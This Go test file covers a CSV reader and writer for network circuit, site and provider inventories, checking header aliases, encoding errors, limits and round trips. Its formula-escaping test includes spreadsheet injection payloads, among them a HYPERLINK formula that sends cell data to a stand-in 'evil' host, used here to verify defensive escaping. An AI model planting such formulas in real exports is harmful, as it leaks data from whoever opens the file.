package inventory

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"lineman/models"
)

func TestReadProviders(t *testing.T) {
	tests := []struct{ name, text string }{
		{"plain", "name,slug,emails,parser,tenant,tags\n" +
			"Zayo,zayo,mr@zayo.com  Other@zayo.com zayo.net,zayo,,gold tier-1\n\nLumen,,,,red,\n"},
		{"another order, BOM, CRLF, blanks", "\ufeff tags ,Name,SLUG,parser,tenant,emails\r\n" +
			"gold tier-1, Zayo ,zayo,zayo,,\"mr@zayo.com Other@zayo.com zayo.net\"\r\n,,,,,\r\n,Lumen,,,red,\r\n"},
		{"Nautobot's names", "name,slug,cf_emails_circuit_maintenances,cf_provider_parser_circuit_maintenances,tenant__name,tags\n" +
			"Zayo,zayo,\"mr@zayo.com,Other@zayo.com, zayo.net\",zayo,,gold tier-1\n\nLumen,,,,red,\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ReadProviders(strings.NewReader(tt.text))
			if err != nil {
				t.Fatal(err)
			}
			want := []models.ProviderRow{
				{Line: 2, Name: "Zayo", Slug: "zayo", Emails: []string{"mr@zayo.com", "Other@zayo.com", "zayo.net"}, Parser: "zayo", Tags: []string{"gold", "tier-1"}},
				{Line: 4, Name: "Lumen", Tenant: "red"},
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestReadSites(t *testing.T) {
	got, err := ReadSites(strings.NewReader("Location,Parent\nBarcelona,EMEA\n\"Paris, \"\"Nord\"\"\",\n"))
	if err != nil {
		t.Fatal(err)
	}
	want := []models.SiteRow{{Line: 2, Name: "Barcelona", Region: "EMEA"}, {Line: 3, Name: `Paris, "Nord"`}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestReadCircuits(t *testing.T) {
	for name, header := range map[string]string{
		"own names":      "cid,provider,type,status,site_a,site_z,xconnect_a,xconnect_z,description,tenant,tags",
		"list":           "Circuit ID,Provider,Circuit Type,Status,Side A,Side-Z,xconnect id a,Xconnect ID Z,Description,Tenant,Tags",
		"export":         "cid,provider__slug,type__name,status__name,circuit_termination_a__site__name,circuit_termination_z__location__name,circuit_termination_a__xconnect_id,circuit_termination_z__xconnect_id,description,tenant__name,tags",
		"by termination": "cid,provider__name,circuit_type__name,status__slug,term_a_site,termination_z,term_a_xconnect_id,term_z_xconnect_id,description,tenant,tags",
	} {
		got, err := ReadCircuits(strings.NewReader(header + "\n'=1+1,ntt,Transit,active,Barcelona,Paris,XA,XZ,\"two\nlines\",red,a b\n/OGYX/1/,zayo,,,,,,,,,\n"))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		want := []models.CircuitRow{
			{Line: 2, CID: "=1+1", Provider: "ntt", Type: "Transit", Status: "active", SiteA: "Barcelona", SiteZ: "Paris",
				XConnectA: "XA", XConnectZ: "XZ", Description: "two\nlines", Tenant: "red", Tags: []string{"a", "b"}},
			{Line: 4, CID: "/OGYX/1/", Provider: "zayo"},
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s: %s", name, diff)
		}
	}
}

func TestReadRefuses(t *testing.T) {
	const columns = "cid, provider, type, status, site_a, site_z, xconnect_a, xconnect_z, description, tenant, tags"
	tests := []struct {
		name, text string
		want       []string
	}{
		{"empty", "", []string{"line 1: the file is empty; its first line must name the columns: " + columns}},
		{"unknown columns", "cid,provider,colour,,term_side\n", []string{
			`line 1: unknown columns "colour", number 4 (without a name), "term_side"; remove them; the columns of a circuit are ` + columns}},
		{"missing column", "cid,type\n", []string{"line 1: column provider is missing; the columns of a circuit are " + columns}},
		{"same column", "cid,provider,provider__slug\n", []string{`line 1: columns "provider" and "provider__slug" mean the same; remove one`}},
		{"semicolons", "cid;provider\na;b\n", []string{"line 1: the columns are separated by semicolons; save the file with commas"}},
		{"tabs", "cid\tprovider\n", []string{"line 1: the columns are separated by tabs; save the file with commas"}},
		{"UTF-16", "\xff\xfec\x00i\x00d\x00", []string{"line 1: the file is UTF-16 or no text; save it as CSV in UTF-8"}},
		{"a workbook", "PK\x03\x04abc", []string{"line 1: the file is a workbook; save it as CSV in UTF-8"}},
		{"header in Latin-1", "cid,provider,gr\xf6\xdfe\n", []string{"line 1: the file is not in UTF-8; save it as CSV in UTF-8"}},
		{"header without end", "\"cid,provider\n1,2\n", []string{`line 1: has a quote (") that is not closed; close it, and write a quote inside a cell twice`}},
		{"lines", "cid,provider,description\n1,ntt,\n,ntt,\n2,,\n3,ntt\n4,ntt,a,b\n5,ntt,a\"b\n6,ntt,\xff\n7,ntt,\x01\n1,NTT,again\n8,ntt,ok\n", []string{
			"line 3: column cid is empty; fill it in",
			"line 4: column provider is empty; fill it in",
			"line 5: has 2 cells, the first line names 3 columns; put cells with commas in quotes",
			"line 6: has 4 cells, the first line names 3 columns; put cells with commas in quotes",
			`line 7: has a quote (") inside a cell; put the cell in quotes and write the quote twice`,
			"line 8: column description is not in UTF-8; save the file as CSV in UTF-8",
			"line 9: column description has a control character; remove it",
			`line 10: cid "1" is there already, in line 2; keep one of them`,
		}},
		{"open quote", "cid,provider\n1,ntt\n\"2,ntt\n3,ntt\n", []string{`line 3: has a quote (") that is not closed; close it, and write a quote inside a cell twice`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rows, err := ReadCircuits(strings.NewReader(tt.text))
			if err == nil || rows != nil {
				t.Fatalf("%d rows, error %v", len(rows), err)
			}
			if diff := cmp.Diff(tt.want, strings.Split(err.Error(), "\n")); diff != "" {
				t.Error(diff)
			}
			var input *models.InputError
			if !errors.As(err, &input) {
				t.Errorf("%T is no InputError", err)
			}
		})
	}
}

func TestReadRefusesAmbiguousAliases(t *testing.T) {
	for text, want := range map[string]string{
		"provider,alias,cid\nntt,Blue,A-1\nNTT,blue,A-2\n": `line 3: alias "blue" is there already, in line 2, for "A-1", and cannot mean "A-2" too; keep one of them`,
		"provider,alias,cid\nntt,Blue,A-1\nNTT,blue,a-1\n": `line 3: alias "blue" is there already, in line 2; keep one of them`,
	} {
		if _, err := ReadAliases(strings.NewReader(text)); err == nil || err.Error() != want {
			t.Errorf("%q: %v", text, err)
		}
	}
}

func TestReadRefusesProviders(t *testing.T) {
	for text, want := range map[string]string{
		"name,slug\nA,x\nB,x\n":     `line 3: slug "x" is there already, in line 2; keep one of them`,
		"name,slug\nA,\nB,\na,\n":   `line 4: name "a" is there already, in line 2; keep one of them`,
		"name,emails\nA,noc@\n":     "line 2: column emails has something that is no address; write noc@example.net, example.net or *.example.net, separated by blanks",
		"name,emails\nA,<a@b.net>,": "line 2: has 3 cells, the first line names 2 columns; put cells with commas in quotes",
	} {
		if _, err := ReadProviders(strings.NewReader(text)); err == nil || err.Error() != want {
			t.Errorf("%q: %v, want %s", text, err, want)
		}
	}
}

func TestProblemsAreBounded(t *testing.T) {
	_, err := ReadSites(strings.NewReader("name\n" + strings.Repeat("a\n", 31)))
	if err == nil || strings.Count(err.Error(), "\n") != 20 || !strings.HasSuffix(err.Error(), "\nand 10 more lines with errors") {
		t.Errorf("%v", err)
	}
	_, err = ReadSites(strings.NewReader(strings.Repeat(strings.Repeat("x", 500)+",", 1000)))
	if err == nil || len(err.Error()) > 2000 {
		t.Errorf("%d bytes of error: %v", len(err.Error()), err)
	}
}

// endless gives the same text for ever.
type endless struct{ text string }

func (e endless) Read(p []byte) (int, error) { return copy(p, e.text), nil }

func TestLimits(t *testing.T) {
	for name, tt := range map[string]struct {
		tail io.Reader
		want string
	}{
		"a line without end":  {endless{strings.Repeat("x", 4000)}, "a line is longer than 1048576 bytes"},
		"a quote without end": {io.MultiReader(strings.NewReader(`"`), endless{"\n"}), "a line is longer than 1048576 bytes"},
		"lines without end":   {endless{strings.Repeat("\n,\n", 1000)}, "the file has more than 1000000 lines"},
		"too large":           {endless{strings.Repeat(strings.Repeat(" ", 999)+"\n", 4)}, "the file is larger than 67108864 bytes"},
		"the reader fails":    {failing{}, "read the file: disk on fire"},
	} {
		_, err := ReadSites(io.MultiReader(strings.NewReader("name,region\n"), tt.tail))
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: %.200v, want %q", name, err, tt.want)
		}
	}
}

type failing struct{}

func (failing) Read([]byte) (int, error) { return 0, errors.New("disk on fire") }

func TestFormulas(t *testing.T) {
	for cell, want := range map[string]string{
		`=HYPERLINK("http://evil?"&A1)`: `'=HYPERLINK("http://evil?"&A1)`,
		"+1+1":                          "'+1+1",
		"-2+3":                          "'-2+3",
		"@SUM(1)":                       "'@SUM(1)",
		"\t=1":                          "'\t=1",
		"\r=1":                          "'\r=1",
		"＝1":                            "'＝1",
		"'=1":                           "''=1",
		"''=1":                          "'''=1",
		`"=1`:                           `"=1`,
		"'tis":                          "'tis",
		"a=1":                           "a=1",
		"'":                             "'",
		"":                              "",
	} {
		if got := Guard(cell); got != want {
			t.Errorf("Guard(%q) = %q, want %q", cell, got, want)
		}
		if got := unguard(Guard(cell)); got != cell {
			t.Errorf("unguard(Guard(%q)) = %q", cell, got)
		}
		in := []models.CircuitRow{{Line: 2, CID: nonEmpty(cell), Provider: "p", Description: cell}}
		var file bytes.Buffer
		if err := WriteCircuits(&file, in); err != nil {
			t.Fatal(err)
		}
		got, err := ReadCircuits(&file)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(in, got); diff != "" {
			t.Errorf("%q: %s", cell, diff)
		}
	}
}

func nonEmpty(s string) string {
	if s == "" {
		return "x"
	}
	return s
}

func TestWriteRefusesWordsWithBlanks(t *testing.T) {
	var input *models.InputError
	for _, err := range []error{
		WriteSites(io.Discard, []models.SiteRow{{Name: "a", Tags: []string{"two words"}}}),
		WriteCircuits(io.Discard, []models.CircuitRow{{CID: "a", Tags: []string{""}}}),
		WriteProviders(io.Discard, []models.ProviderRow{{Name: "a", Tags: []string{" x"}}}),
		WriteProviders(io.Discard, []models.ProviderRow{{Name: "a", Emails: []string{"a@b.net,c@d.net"}}}),
	} {
		if !errors.As(err, &input) {
			t.Errorf("%v, want an InputError", err)
		}
	}
	if err := WriteSites(brokenPipe{}, []models.SiteRow{{Name: "a"}}); err == nil {
		t.Error("a writer that fails gave no error")
	}
}

type brokenPipe struct{}

func (brokenPipe) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }

// Whatever is in the rows, reading what was written gives the same rows.
func TestRoundTrip(t *testing.T) {
	seed := rand.Uint64()
	t.Logf("seed %d", seed)
	random := rand.New(rand.NewPCG(seed, 0))
	alphabet := []rune("ab'\"=+-@,;\t\n\r\\ ＝é😀")
	word := func() string {
		n := random.IntN(6)
		out := make([]rune, n)
		for i := range out {
			out[i] = alphabet[random.IntN(len(alphabet))]
		}
		// What reading cannot give back: blanks at the ends, except before a
		// formula sign, and \r\n.
		s := lineBreaks(string(out))
		if strings.TrimSpace(unguard(strings.TrimSpace(Guard(s)))) != s {
			s = strings.TrimSpace(s)
		}
		return s
	}
	list := func() (words []string) {
		for range random.IntN(3) {
			if w := strings.Join(strings.Fields(word()), ""); w != "" {
				words = append(words, w)
			}
		}
		return words
	}
	for round := range 300 {
		var circuits []models.CircuitRow
		var sites []models.SiteRow
		var providers []models.ProviderRow
		for i := range random.IntN(5) {
			id := fmt.Sprintf("%s%d", word(), i)
			id = strings.TrimSpace(id)
			circuits = append(circuits, models.CircuitRow{
				CID: id, Provider: "p" + id, Type: word(), Status: word(), SiteA: word(), SiteZ: word(),
				XConnectA: word(), XConnectZ: word(), Description: word(), Tenant: word(), Tags: list(),
			})
			sites = append(sites, models.SiteRow{Name: id, Region: word(), Tenant: word(), Tags: list()})
			providers = append(providers, models.ProviderRow{
				Name: id, Slug: fmt.Sprint("p", i), Emails: []string{"-a@b.net", "*.b.net"}, Parser: word(), Tenant: word(), Tags: list(),
			})
		}
		roundTrip(t, round, circuits, WriteCircuits, ReadCircuits, func(r *models.CircuitRow) { r.Line = 0 })
		roundTrip(t, round, sites, WriteSites, ReadSites, func(r *models.SiteRow) { r.Line = 0 })
		roundTrip(t, round, providers, WriteProviders, ReadProviders, func(r *models.ProviderRow) { r.Line = 0 })
	}
}

func roundTrip[R any](t *testing.T, round int, rows []R, write func(io.Writer, []R) error, read func(io.Reader) ([]R, error), noLine func(*R)) {
	t.Helper()
	var file bytes.Buffer
	if err := write(&file, rows); err != nil {
		t.Fatalf("round %d: %v", round, err)
	}
	text := file.String()
	got, err := read(&file)
	if err != nil {
		t.Fatalf("round %d: %v\n%q", round, err, text)
	}
	for i := range got {
		noLine(&got[i])
	}
	if len(rows) == 0 {
		rows = []R{}
	}
	if diff := cmp.Diff(rows, got); diff != "" {
		t.Fatalf("round %d: %s\n%q", round, diff, text)
	}
}

// FuzzRead: no input makes a reader panic, rows and errors exclude each other,
// and what was read is the same after an export.
func FuzzRead(f *testing.F) {
	for _, seed := range []string{
		"cid,provider\n1,ntt\n", "\ufeffcid,provider,tags\r\n'=1,p,\"a b\"\r\n", "cid;provider\n", "\"", "cid,provider,description\n1,p,\"a\r\nb\"\n",
		"cid,provider\n1,p\n\"2,p\n", "cid,provider,description\na,b,''\t=1\n", "\xff\xfe", "cid,provider,tags\na,b,\u00a0x\u2003y\n",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		rows, err := ReadCircuits(strings.NewReader(text))
		if err != nil {
			if rows != nil {
				t.Error("rows beside an error")
			}
			return
		}
		var file bytes.Buffer
		if err := WriteCircuits(&file, rows); err != nil {
			t.Fatal(err)
		}
		again, err := ReadCircuits(&file)
		if err != nil {
			t.Fatal(err)
		}
		for i := range rows {
			rows[i].Line, again[i].Line = 0, 0
		}
		if diff := cmp.Diff(rows, again); diff != "" {
			t.Error(diff)
		}
	})
}
